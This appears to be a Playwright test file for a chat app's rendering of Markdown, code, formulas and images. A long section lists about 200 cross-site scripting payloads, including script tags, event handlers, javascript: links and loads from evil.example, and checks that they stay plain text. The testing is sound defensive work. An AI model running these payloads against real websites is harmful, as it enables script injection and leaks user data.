// What was stored is text on the page: Markdown and formulas in answers, and what is hostile, from every author.
import assert from "node:assert/strict";
import type { Page } from "playwright-core";
import type { Companion } from "../support/server-fixture.ts";
import {
  field,
  gate,
  go,
  hasCount,
  looksFine,
  message,
  messages,
  onPage,
  say,
  test,
} from "./page-fixture.ts";

const said =
  (...contents: readonly string[]) =>
  async (c: Companion) => {
    const messages = contents.map((content) => ({ role: "assistant" as const, content }));
    await c.throughline.chats.append("local:me", messages);
  };

test("a picture is shown as its words and its host, and is loaded only when it is opened; nothing is loaded for code and formulas that are none", async () => {
  const plain = "From $5 to $10, `$HOME` and\n\n```\nplain $x$\n```\n\n```text\nplain\n```\n\n";
  const words =
    "Look: ![a **sleeping** cat](https://cats.example/c.png?id=7 'Mia') here\n\n" +
    "![](//dogs.example/d.png) and ![inline](data:image/gif;base64,R0lGODlhAQABAAAAACw=)\n\n" +
    "[![built](https://ci.example/b.svg)](https://code.example/repo)";
  const path = "/icon.svg";
  await onPage({ path, prepare: said(plain, words) }, async ({ page, url }) => {
    const isAsked = assetsOf(page);
    const foreign: string[] = [];
    page.on("request", (request) => {
      if (!request.url().startsWith(url)) foreign.push(request.url());
    });
    await page.goto(url);
    const row = message(page, "Look:");
    const chips = row.locator(".picture");
    await chips.nth(3).waitFor();
    assert.deepEqual(await chips.allTextContents(), [
      "a sleeping cat cats.example Open",
      "Picture dogs.example Open",
      "inline no address",
      "built ci.example Open",
    ]);
    const open = row.getByRole("link", { name: "Open the picture, cats.example" });
    assert.equal(await open.getAttribute("href"), "https://cats.example/c.png?id=7");
    assert.match((await open.getAttribute("rel")) ?? "", /noreferrer/);
    const link = row.getByRole("link", { name: "code.example", exact: true });
    assert.equal(await link.getAttribute("href"), "https://code.example/repo");
    assert.equal(await page.locator("a a, #content img").count(), 0);
    assert.deepEqual(foreign, []);
    await hasCount(message(page, "From $5 to $10").locator(".code-block"), 2);
    await page.waitForLoadState("networkidle");
    assert.equal(isAsked("index"), true);
    assert.equal(isAsked("highlighted") || isAsked("rendered-formula"), false);
  });
});

/** The files that the page asked for, by the beginnings of their names. */
function assetsOf(page: Page): (name: string) => boolean {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(new URL(request.url()).pathname));
  return (name) => asked.some((path) => path.startsWith(`/assets/${name}-`));
}

test("code is highlighted once its block is closed, and only then is anything loaded for it", async () => {
  const [open, end] = [gate(), gate()];
  const script = [
    [
      "Look:\n\n```ts\nconst tea = 1; // <b>",
      { type: "wait" as const, until: open.until },
      "\n```\n\nThat",
      { type: "wait" as const, until: end.until },
      " is it.\n\n```nope\nconst x\n```",
    ],
  ];
  await onPage({ script }, async ({ page }) => {
    const isAsked = assetsOf(page);
    await say(page, "What?");
    const row = message(page, "Look:");
    const block = row.locator(".code-block").first();
    await block.getByText("TypeScript", { exact: true }).waitFor();
    await block.getByText("const tea = 1; // <b>").waitFor();
    assert.equal(isAsked("highlighted"), false);
    open.open();
    await block.locator(".hljs-keyword").getByText("const", { exact: true }).waitFor();
    assert.equal(await block.locator("pre").textContent(), "const tea = 1; // <b>\n");
    await page.evaluate('document.querySelector(".hljs-keyword").isFirst = true');
    end.open();
    await row.getByText("That is it.").waitFor();
    const isKept = 'document.querySelector(".message[aria-busy] .hljs-keyword")?.isFirst ?? true';
    assert.equal(await page.evaluate(isKept), true, "the code is not highlighted again");
    const unknown = row.locator(".code-block").nth(1);
    await unknown.getByText("nope", { exact: true }).waitFor();
    await hasCount(unknown.locator("span[class^=hljs]"), 0);
    assert.equal(isAsked("rendered-formula"), false);
  });
});

/** As on plain http, where pages have no clipboard. */
const withoutClipboard = () =>
  Object.defineProperty(Navigator.prototype, "clipboard", { value: undefined });

test("formulas are drawn between words that are Markdown; they and code are copied as they were written, also on plain http", async () => {
  const words =
    "So **if** $a_1 * b_1 * c$ and \\(\\alpha_{i}\\), then\n\n\\[\n\\frac{a}{b}\n= c_{2}\n\\]\n\n- *or* $$\nx^{*}_1 < y\n$$\n\n" +
    "\\begin{align*}\na &= b \\\\\nc &= d\n\\end{align*}\n\nIn `$code_x$`, from $5 to $6_";
  const code = "```js\nlet a = `$x$`;\n\n\tb();\n```";
  const long = `First\n\n\`\`\`js\n${"let a = 1; ".repeat(5_000)}\n\`\`\``;
  const prepare = async (c: Companion) => {
    await said(words)(c);
    for (const [chat, content] of [
      ["local:code", code],
      ["local:long", long],
    ] as const) {
      await c.throughline.chats.append(chat, [{ role: "assistant", content }]);
    }
  };
  await onPage({ prepare, inject: withoutClipboard }, async ({ page }) => {
    const row = message(page, "So if");
    await hasCount(row.locator(".math > math"), 5);
    await hasCount(row.locator(".math.is-display"), 3);
    assert.deepEqual(await row.locator("math").allTextContents(), [
      "a1∗b1∗c",
      "αi",
      "ab=c2",
      "x1∗<y",
      "a=bc=d",
    ]);
    await hasCount(row.locator("mfrac"), 1);
    await hasCount(row.locator("mtable"), 1);
    assert.deepEqual(await row.locator("strong, em").allTextContents(), ["if", "or"]);
    assert.equal(await row.locator("code").textContent(), "$code_x$");
    assert.match((await row.textContent()) ?? "", /from \$5 to \$6_/);
    await row.hover();
    await row.getByRole("button", { name: "Copy", exact: true }).click();
    await row.getByText("Copied").waitFor();
    await field(page).press("Control+V");
    assert.equal(await field(page).inputValue(), words);

    await go(page, "/chats/local%3Acode");
    const copy = page.locator(".code-copy");
    await copy.getByText("Copy", { exact: true }).waitFor();
    for (const press of [() => copy.click(), () => copy.press("Enter")]) {
      await press();
      await copy.getByText("Copied").waitFor();
      await field(page).fill("");
      await field(page).press("Control+V");
      assert.equal(await field(page).inputValue(), "let a = `$x$`;\n\n\tb();");
    }

    // Very long code stays plain, and its lines scroll in their block.
    await go(page, "/chats/local%3Along");
    const pre = message(page, "First").locator("pre");
    await pre.waitFor();
    await page.waitForLoadState("networkidle");
    await hasCount(pre.locator("span"), 0);
    const wider = (element: string) =>
      page.evaluate(`${element}.scrollWidth > ${element}.clientWidth`);
    assert.equal(await wider('document.querySelector("pre")'), true);
    assert.equal(await wider('document.querySelector(".transcript-box")'), false);
  });
});

test("what stands in a quotation or an item has the gaps that it has elsewhere", async () => {
  const text = "one\n\n- two\n\n  three\n\nfour";
  const quoted = text.replaceAll(/^/gm, "> ");
  await onPage({ prepare: said(`${text}\n\n${quoted}`) }, async ({ page }) => {
    await page.locator(".markdown blockquote").waitFor();
    const gaps = await page.evaluate<Record<string, number[]>>(`(() => {
      const gaps = (of) => [...document.querySelectorAll(of)].slice(1).map((each) =>
        Math.round(each.getBoundingClientRect().top
          - each.previousElementSibling.getBoundingClientRect().bottom));
      const [outside, quoted] = [".markdown > *", ".markdown blockquote > *"].map(gaps);
      const items = [...document.querySelectorAll(".markdown li > p + p")].map((each) =>
        Math.round(each.getBoundingClientRect().top
          - each.previousElementSibling.getBoundingClientRect().bottom));
      return { outside, quoted, items };
    })()`);
    const gap = gaps["outside"]?.[0] ?? 0;
    assert.ok(gap > 8, `${gap} px`);
    assert.deepEqual(gaps, { outside: [gap, gap, gap], quoted: [gap, gap], items: [gap, gap] });
  });
});

test("formulas that cannot be drawn stay as they were written", async () => {
  const formulas = [
    "$\\nope{x}$",
    "$\\href{https://example.org}{x}$",
    "$\\includegraphics{https://example.org/a.png}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$\\newcommand{\\a}{x}\\a$",
    `$${"\\sqrt{".repeat(80)}x${"}".repeat(80)}$`,
    `$${"{".repeat(2_400)}${"}".repeat(2_400)}$`,
    `$${"x+".repeat(2_600)}x$`,
    `$${"\\dots".repeat(900)}$`,
  ];
  const words = `First $x$ then ${formulas.join(" and ")} and $\\sideset{_1}{^2}\\prod$`;
  await onPage({ prepare: said(words) }, async ({ page }) => {
    const row = message(page, "First");
    await hasCount(row.locator("math"), 2);
    assert.deepEqual(await row.locator(".math-source").allTextContents(), formulas);
    await hasCount(row.locator("math a, math img, math [href], math [src]"), 0);
  });
});

const sample =
  "# Tea\n\n```ts\n// why\nexport class Tea<T> extends Drink { #minutes: number = 3; brew(): string { return `a`; } }\n```\n\n" +
  '```python\n@once\ndef f(x: int = 1):\n    return re.match(r"a", f"{x}", None)\n```\n\n```html\n<a href="x">&amp;</a>\n```\n\n' +
  "```css\n#a .b::before, a[href] { color: #fff; --x: 1px; }\n```\n\n```diff\n@@ -1 +1 @@\n-a\n+b\n```\n\n```sh\nX=1 echo $X && ls -l\n```\n\n" +
  "```md\n# a\n- **b** _c_ `d` [e](f)\n> g\n```\n\n```yaml\na: &x [1, true]\n```\n\n" +
  "Then $\\frac{a_1}{b} + \\color{#777} x$ and \\[\n\\sum_{n=1}^{\\infty} \\frac{1}{n^2} = \\frac{\\pi^2}{6} + a + b + c + d + e + f + g + h\n\\]";

test("axe finds nothing wrong with code and formulas", async () => {
  await onPage({ prepare: said(sample) }, async ({ page }) => {
    await page.locator(".math.is-display math").waitFor();
    await page.locator(".hljs-comment").waitFor();
    await looksFine(page, "code and formulas");
  });
});

test("an answer is read out once it is whole, without the signs of Markdown; each block has its own direction, Chinese bold needs no spaces", async () => {
  const rest = gate();
  const words =
    "# Tea\n\n**Green** *and* [black](https://tea.example 'Tea'), ![a cup](https://tea.example/c.png),";
  const script = [[words, { type: "wait" as const, until: rest.until }, " $x_1 * y_1 * z$"]];
  const second = "See this:\n\nשלום לך\n\n- שלום\n\none\ntwo\n\n他说**“你好。”**然后走了。";
  await onPage({ script: [...script, [second]] }, async ({ page }) => {
    const told = page.locator("p[aria-live=polite]");
    await say(page, "What do you like?");
    await message(page, "Green and black").waitFor();
    assert.equal(await told.textContent(), "The companion is answering.");
    rest.open();
    const whole = /^Companion: Tea\s+Green and black, a cup, \$x_1 \* y_1 \* z\$$/;
    await told.filter({ hasText: whole }).waitFor({ state: "attached" });

    await say(page, "Hello");
    const shown = page.locator(".message-assistant .markdown").filter({ hasText: "See this" });
    await shown.getByText("然后走了").waitFor();
    const directions = `[...[...document.querySelectorAll(".message-assistant .markdown")].at(-1)
      .querySelectorAll(":is(p, li)")].map((element) => getComputedStyle(element).direction)`;
    assert.deepEqual(await page.evaluate(directions), ["ltr", "rtl", "rtl", "ltr", "ltr"]);
    // A line break is one.
    assert.equal(await shown.locator("br").count(), 1);
    assert.equal(await shown.locator("strong").textContent(), "“你好。”");
  });
});

const run = "document.title='pwned'";
/** Ways to run something, or to load it from elsewhere. */
const acts = [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<svg onload="${run}"><circle r=9></svg>`,
  `<svg><script>${run}</script></svg>`,
  "<iframe src=javascript:alert(1)></iframe>",
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<details open ontoggle="${run}">x</details>`,
  `<video><source onerror="${run}"></video>`,
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<form action=//evil.example><button>go</button></form>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  `<template><script>${run}</script></template>`,
  "<img src=//evil.example/pixel.png>",
  "![pixel](https://evil.example/pixel.png)",
  "[click](javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is said
  "${alert(1)}",
];
/** What may stand before them, to break out of where they are. */
const outs = ["", "</p></li></ol>", '">', "'>", "-->", "]]>", "</textarea></title>", "```\n```\n"];
const payloads = outs.flatMap((out) => acts.map((act) => `${out}${act}`));

interface Watched {
  readonly dialogs: string[];
  readonly foreign: string[];
}

/** Notes every dialog, and every request that leaves the server. */
function watch(page: Page, url: string): Watched {
  const seen: Watched = { dialogs: [], foreign: [] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(url)) seen.foreign.push(request.url());
  });
  return seen;
}

const forbidden =
  "script, iframe, object, embed, link, style, base, meta, img, video, math, template, " +
  "svg:not(.icon, .mark), form:not(.composer), [onload], [onerror], [onfocus], [ontoggle]";

async function assertHarmless(page: Page, seen: Watched): Promise<void> {
  assert.deepEqual(seen, { dialogs: [], foreign: [] });
  assert.doesNotMatch(await page.title(), /^pwned/);
  assert.equal(await page.locator("#content").locator(forbidden).count(), 0);
  // All at once: rows come and go while it scrolls.
  const addresses = `[...document.querySelectorAll("#content a[href]")].map((link) => link.getAttribute("href"))`;
  for (const address of (await page.evaluate(addresses)) as string[]) {
    assert.match(address, /^(\/|https?:\/\/)/);
  }
}

test("there are 200 payloads to try", () => assert.equal(new Set(payloads).size, 200));

for (const role of ["user", "assistant"] as const) {
  test(`200 payloads said by the ${role} stay text: nothing runs, loads or becomes an element`, async () => {
    await onPage(
      {
        prepare: async (c) => {
          const said = payloads.map((content, n) => ({ role, content: `${content} no. ${n}.` }));
          await c.throughline.chats.append("local:me", said);
        },
      },
      async ({ page, url }) => {
        const seen = watch(page, url);
        await page.reload();
        await message(page, "no. 199.").waitFor();
        const met = new Set<string>();
        // At the top for some looks on end, all there: older messages move what is shown when they come in.
        for (let looks = 0; looks < 3; ) {
          const isWhole = (await page.getByText("Start of the chat").count()) > 0;
          for (const text of await messages(page).allTextContents()) {
            const [, n] = text.match(/no\. (\d+)\./) ?? [];
            if (n !== undefined) met.add(n);
          }
          await assertHarmless(page, seen);
          const box = page.locator(".transcript-box");
          const top = await box.evaluate((each) => {
            each.scrollBy(0, -300);
            return each.scrollTop;
          });
          await page.waitForTimeout(30);
          looks = isWhole && top === 0 ? looks + 1 : 0;
        }
        assert.equal(met.size, 200);
      },
    );
  });
}

test("payloads as ids, titles, models and finds stay text in the list of chats, and an address that names a server or a token of its own changes nothing", async () => {
  await onPage(
    {
      path: "/chats",
      prepare: async (c) => {
        for (const [n, content] of payloads.slice(0, 40).entries()) {
          await c.throughline.chats.append(`${n} ${content}`, [
            { role: "user", content: `find ${content}` },
            { role: "assistant", content, provider: content, model: content },
          ]);
        }
      },
    },
    async ({ page, url }) => {
      const seen = watch(page, url);
      await page.reload();
      await page.locator(".chat-item").nth(39).waitFor();
      await assertHarmless(page, seen);
      await page.getByLabel("Search all chats").fill("find");
      await page.locator("mark").nth(20).waitFor();
      await assertHarmless(page, seen);
      await page.locator(".chat-item a").first().click();
      await messages(page).nth(1).waitFor();
      await assertHarmless(page, seen);
      await page.goto(`${url}/?gatewayUrl=ws://evil.example&token=x#https://evil.example`);
      await page.getByText("Nothing here yet").waitFor();
      await assertHarmless(page, seen);
    },
  );
});
